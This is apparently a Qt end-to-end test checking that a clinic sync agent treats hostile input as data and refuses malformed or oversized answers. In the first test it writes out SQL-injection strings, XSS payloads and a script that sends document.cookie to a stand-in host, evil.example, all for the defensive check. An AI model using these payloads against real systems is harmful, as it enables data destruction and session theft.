// Hostile input through whole syncs (issue 16, item 4; docs/RELIABILITY.md, "Hostile input"): one clinic
// week in the Neo simulator, one agent install, its real sync runs (sync_bench.h), after a good sync.
// - Script, SQL and markup in a client's names, a visit's reason and its notes are data: the run
//   completes and the backend holds exactly the simulator's ground truth (names as typed, notes
//   sanitised by the contract's rules), no <script> in what is uploaded.
// - An answer of the wrong types (strings where numbers are, numbers where strings are, nulls in every
//   required field) or a 10 MB note: no crash, the run is partial with the field's warning (the note's
//   consultation refused whole, unread), and the backend still holds what the last good read left
//   (nothing wrong or cut uploaded); the next clean read settles it.
// Each fault must reach an answer (the simulator counts what its mutations changed).

#include "agent/run/run_summary.h"
#include "sync/core/item_key.h"
#include "tests/e2e/sync_bench.h"
#include "tests/e2e/truth_compare.h"
#include "tests/support/webengine_test_main.h"

#include <QJsonDocument>

using namespace odis;
using odis::sim::neo::SimAppointment;
using odis::sim::neo::SimChange;
using odis::test::BenchOptions;
using odis::test::SyncBench;

namespace {

const QDateTime kThursdayEvening = QDateTime::fromString(QStringLiteral("2026-03-13T01:00:30Z"), Qt::ISODate);
const QDate kThursday(2026, 3, 12);

QJsonObject retype(const char* path, const char* to)
{
    return QJsonObject{{"op", "retype"}, {"path", path}, {"to", to}};
}

} // namespace

class TstSyncHostile : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void scriptAndSqlAreData();
    void wrongTypesAndHugeValuesAreRefused_data();
    void wrongTypesAndHugeValuesAreRefused();

private:
    agent::SyncRunResult syncExpecting(agent::RunStatus status);
    void expectTruth(const char* when);

    std::unique_ptr<SyncBench> m_bench;
    QList<QDateTime> m_goodReads;
};

void TstSyncHostile::initTestCase()
{
    BenchOptions options;
    options.now = kThursdayEvening;
    auto bench = SyncBench::create(options);
    QVERIFY2(bench, bench ? "" : qPrintable(bench.error().toString()));
    m_bench = std::move(*bench);
    syncExpecting(agent::RunStatus::Completed);
    m_goodReads << m_bench->now();
    expectTruth("after the first sync");
}

agent::SyncRunResult TstSyncHostile::syncExpecting(agent::RunStatus status)
{
    const auto result = m_bench->sync();
    if (!result || !result->run) {
        QTest::qFail("the run did not end", __FILE__, __LINE__);
        return {};
    }
    if (result->run->status != status)
        QTest::qFail(qPrintable(QStringLiteral("run %1, expected %2:\n%3")
                                    .arg(agent::runStatusName(result->run->status),
                                         agent::runStatusName(status), agent::syncSummaryText(*result))),
                     __FILE__, __LINE__);
    return *result;
}

void TstSyncHostile::expectTruth(const char* when)
{
    const auto truth = m_bench->truth(m_goodReads);
    QVERIFY2(truth, truth ? "" : qPrintable(truth.error().toString()));
    const QStringList differences = m_bench->differences(*truth);
    QVERIFY2(differences.isEmpty(),
             qPrintable(QString::fromUtf8(when) + u'\n' + differences.mid(0, 10).join(u'\n')));
}

void TstSyncHostile::scriptAndSqlAreData()
{
    SimAppointment visit;
    for (const SimAppointment& a : m_bench->neo().state().model.snapshotAt(m_bench->now())) {
        if (a.date == kThursday && a.status == u"Finalized" && a.consultationId && !a.notesHtml.isEmpty() &&
            !a.client.mobilePhone.isEmpty() && !a.schedulePhoneHidden) {
            visit = a;
            break;
        }
    }
    QVERIFY2(visit.consultationId, "no finished Thursday visit with notes");
    SimChange hostile;
    hostile.client = visit.client;
    hostile.client->firstName = QStringLiteral("Robert'); DROP TABLE outbox;--");
    hostile.client->lastName = QStringLiteral("<img src=x onerror=alert(1)> O'Brien");
    hostile.reason = QStringLiteral("\"; DELETE FROM items WHERE '1'='1");
    hostile.notesHtml =
        visit.notesHtml +
        QStringLiteral("<p onclick=\"steal()\">Owner wrote: <script>fetch('//evil.example/'+document."
                       "cookie)</script>'; DROP TABLE consultations; --</p>"
                       "<iframe src=\"javascript:alert(1)\"></iframe><a href=\"//evil\">x</a>");
    hostile.atUtc = m_bench->now().addSecs(30);
    QVERIFY(m_bench->neo().state().model.addChange(visit.appointmentId, hostile));
    m_bench->advance(61 * 60); // past the re-read interval: recent notes are read again
    syncExpecting(agent::RunStatus::Completed);
    m_goodReads << m_bench->now();
    expectTruth("after script and SQL in names, reason and notes");

    const auto items = m_bench->backendItems();
    QVERIFY(items);
    const auto payloads = test::payloadsByKey(*items);
    const QJsonObject consultation =
        payloads.value(sync::consultationKey(QString::number(*visit.consultationId)));
    const QString notesHtml = consultation.value(QStringLiteral("notes_html")).toString();
    QVERIFY2(notesHtml.contains(u"DROP TABLE consultations"), "the note's text is kept as text");
    for (const char* gone : {"<script", "onclick", "<iframe", "javascript:", "<a "})
        QVERIFY2(!notesHtml.contains(QLatin1String(gone), Qt::CaseInsensitive), gone);
}

void TstSyncHostile::wrongTypesAndHugeValuesAreRefused_data()
{
    QTest::addColumn<QString>("route");
    QTest::addColumn<QJsonArray>("mutations");
    QTest::addColumn<QString>("code");
    QTest::addColumn<QString>("field");
    QTest::newRow("strings as numbers")
        << QStringLiteral("schedule") << QJsonArray{retype("[].patient_name", "number")}
        << QStringLiteral("neo_layout_changed") << QStringLiteral("patient_name");
    QTest::newRow("numbers as strings")
        << QStringLiteral("schedule") << QJsonArray{retype("[].consultation_id", "string")}
        << QStringLiteral("neo_layout_changed") << QStringLiteral("consultation_id");
    QTest::newRow("nulls everywhere")
        << QStringLiteral("schedule")
        << QJsonArray{retype("[].id", "null"),       retype("[].start", "null"),
                      retype("[].end", "null"),      retype("[].resourceId", "null"),
                      retype("[].is_block", "null"), retype("[].is_roster", "null")}
        << QStringLiteral("neo_layout_changed") << QStringLiteral("start");
    QTest::newRow("consultation nulls")
        << QStringLiteral("consultation")
        << QJsonArray{retype("consultation.status", "null"), retype("consultation.id", "null")}
        << QStringLiteral("neo_layout_changed") << QStringLiteral("consultation.status");
    // In every other answer (most visits failing would fail the whole read: neo_reads_failed). The page
    // does not read an answer over its cap (NeoSessionConfig::maxAnswerBytes): that consultation is
    // refused whole, the rest of the read goes on. A 2 MB note is read and refused by its field
    // (tst_sync_held_back).
    QTest::newRow("a 10 MB note") << QStringLiteral("consultation")
                                  << QJsonArray{QJsonObject{{"op", "oversize"},
                                                            {"path", "consultation.notes"},
                                                            {"length", 10'000'000},
                                                            {"rows", "some"}}}
                                  << QStringLiteral("neo_value_too_long") << QStringLiteral("(answer)");
}

void TstSyncHostile::wrongTypesAndHugeValuesAreRefused()
{
    QFETCH(QString, route);
    QFETCH(QJsonArray, mutations);
    QFETCH(QString, code);
    QFETCH(QString, field);
    QVERIFY(m_bench->ageReads(2 * 3600)); // recent consultations are read again
    QVERIFY(m_bench->setFault(route, QJsonObject{{"mutate", mutations}}));
    const auto run = syncExpecting(agent::RunStatus::Partial);
    m_bench->clearFaults();
    QVERIFY(m_bench->mutatedValues(route) > 0);
    const QJsonObject report = m_bench->runReport(run.run->runId);
    QVERIFY2(!test::reportWarnings(report, code, field).isEmpty(),
             QJsonDocument(report.value(QStringLiteral("warnings")).toArray()).toJson().constData());
    // Nothing of the hostile answer reached the backend: it holds what the last good read left.
    expectTruth("after a hostile answer");
    QCOMPARE(m_bench->backendSummary().value(QStringLiteral("rejected_items")).toInteger(), 0);
    syncExpecting(agent::RunStatus::Completed);
    expectTruth("after the next clean read");
}

ODIS_WEBENGINE_TEST_MAIN(TstSyncHostile)
#include "tst_sync_hostile.moc"
